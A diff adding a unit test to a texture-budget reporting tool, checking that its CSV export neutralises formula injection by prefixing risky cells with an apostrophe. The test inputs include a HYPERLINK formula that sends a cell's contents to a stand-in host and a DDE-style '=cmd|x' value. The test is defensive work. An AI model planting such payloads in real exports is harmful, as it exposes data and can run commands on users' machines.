@@ -214,6 +214,30 @@ def test_csv_quotes_per_rfc4180(scene: Path) -> None:
     assert parsed[1][csv_report.COLUMNS.index("decided_by")] == tricky
 
 
+def test_csv_cells_never_start_a_formula(scene: Path) -> None:
+    """OWASP's rule for CSV injection: text that a spreadsheet would run ("=…", "+…", "-…",
+    "@…", tab, CR) is written after an apostrophe; no other cell changes."""
+    import csv as csv_mod
+    import io
+    from dataclasses import replace
+
+    from texbudget.report import csv as csv_report
+
+    report = _report(scene)
+    rows = list(report.textures)
+    names = ['=HYPERLINK("https://e.example/?"&A1)', "+1.png", "-x.png", "@sum.png", "\tx.png", "ok=1.png"]
+    for i, name in enumerate(names):
+        row = rows[i % len(rows)]
+        rows.append(replace(row, facts=replace(row.facts, path=name), plan=replace(row.plan, path=name)))
+    mesh = report.meshes[0]
+    report = replace(report, textures=tuple(rows), meshes=(replace(mesh, facts=replace(mesh.facts, path="=cmd|x")), *report.meshes[1:]))
+    parsed = list(csv_mod.DictReader(io.StringIO(csv_report.render(report), newline="")))
+    paths = [r["path"] for r in parsed]
+    assert paths[len(rows) - len(names):len(rows)] == ["'" + n for n in names[:-1]] + ["ok=1.png"]
+    assert paths[len(rows)] == "'=cmd|x"
+    assert paths[: len(rows) - len(names)] == [r.facts.path for r in report.textures[: len(rows) - len(names)]]
+
+
 def _report(root: Path):
     from texbudget import config, pipeline
     from texbudget.scan import read_scene
